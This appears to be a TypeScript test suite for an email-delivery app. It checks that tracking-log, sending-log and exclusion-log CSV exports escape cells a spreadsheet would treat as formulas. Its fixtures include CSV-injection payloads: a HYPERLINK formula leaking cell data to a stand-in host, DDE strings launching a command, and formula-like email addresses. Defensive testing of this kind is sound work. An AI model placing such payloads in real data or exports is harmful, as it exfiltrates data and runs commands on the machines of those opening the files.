import { parse } from 'csv-parse/sync'
import { readyDelivery, startHarness, type Harness } from '../support/harness'
import { messageTo, sentTrackedDelivery, trackingLinks, trackingLogs } from '../support/tracked-delivery'

/**
 * Issue 16, item 8: the CSV exports wrote user agents, SMTP replies and addresses as they came, so a
 * spreadsheet opening one would run `=HYPERLINK(…)` as a formula. Now a cell a spreadsheet would read as a
 * formula starts with `'`.
 */
describe('CSV exports', () => {
  let h: Harness
  beforeAll(async () => {
    h = await startHarness()
  })
  afterAll(() => h?.close())

  const formulas = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    '-2+3',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
  ]

  /** Every cell of a delivery's export, parsed as a spreadsheet would read the file. */
  async function exported(deliveryId: number, log: string): Promise<Record<string, string>[]> {
    const res = await h.app.request(`/api/deliveries/${deliveryId}/export/${log}`, {
      headers: { authorization: `Bearer ${h.tokens.viewer}` },
    })
    expect(res.status).toBe(200)
    return parse(await res.text(), { columns: true, relax_column_count: false }) as Record<string, string>[]
  }

  const formulaCells = (rows: Record<string, string>[]) =>
    rows.flatMap((row) => Object.entries(row)).filter(([, cell]) => /^[=+\-@\t\r]/.test(cell))

  test('user agents that look like formulas are escaped in the tracking-log export', async () => {
    const { id, ids } = await sentTrackedDelivery(h, 1)
    const { pixel } = trackingLinks(await messageTo(h, id, ids[0]))
    // HTTP drops a header's leading tab, and forbids CR: those two arrive as a stored row would hold them.
    for (const agent of formulas.slice(0, 4)) await h.app.request(pixel, { headers: { 'user-agent': agent } })
    await h.app.drain()
    for (const agent of formulas.slice(4))
      await h.db.knex('tracking_log').insert({
        delivery_id: id,
        profile_id: ids[0],
        type: 'open',
        user_agent: agent,
        created_at: h.db.date(new Date()),
      })
    expect((await trackingLogs(h, id)).total).toBe(formulas.length)
    const rows = await exported(id, 'tracking-logs')
    expect(formulaCells(rows)).toEqual([])
    expect(rows.map((r) => r.userAgent).sort()).toEqual(formulas.map((f) => `'${f}`).sort())
  })

  test('SMTP replies and addresses that look like formulas are escaped in the sending and exclusion exports', async () => {
    const reply = formulas[0]
    h.sink.recipientRule = (address) => (address.startsWith('-2+3') ? { code: 550, message: reply } : null)
    try {
      const created = await h.api('POST', '/api/profiles?acceptInvalidEmails=true', {
        body: {
          profiles: [
            { externalId: 'csv-formula-1', email: '-2+3@example.com' },
            { externalId: 'csv-formula-2', email: '=HYPERLINK("https://evil.example/")' },
            { externalId: 'csv-formula-3', email: '+1@example.com' },
          ],
        },
      })
      expect(created.status).toBe(200)
      const id = await readyDelivery(h, created.body.ids)
      await h.api('POST', `/api/deliveries/${id}/confirm`, { as: 'start', body: { expectedMessages: 2 } })
      await h.waitForStatus(id, 'finished')
      // A reply kept without its code, as an SMTP error's message is kept when there is no reply line.
      await h.db
        .knex('sending_log')
        .where({ delivery_id: id, email: '+1@example.com' })
        .update({ failure_reason: formulas[3] })
      const sending = await exported(id, 'sending-logs')
      expect(sending.map((r) => r.email).sort()).toEqual(["'+1@example.com", "'-2+3@example.com"])
      expect(sending.find((r) => r.email === "'-2+3@example.com")!.failureReason).toContain(reply)
      expect(sending.find((r) => r.email === "'+1@example.com")!.failureReason).toBe(`'${formulas[3]}`)
      expect(formulaCells(sending)).toEqual([])
      const exclusions = await exported(id, 'exclusion-logs')
      expect(exclusions.map((r) => r.email)).toEqual([`'=HYPERLINK("https://evil.example/")`])
      expect(formulaCells(exclusions)).toEqual([])
    } finally {
      h.sink.recipientRule = null
    }
  })
})
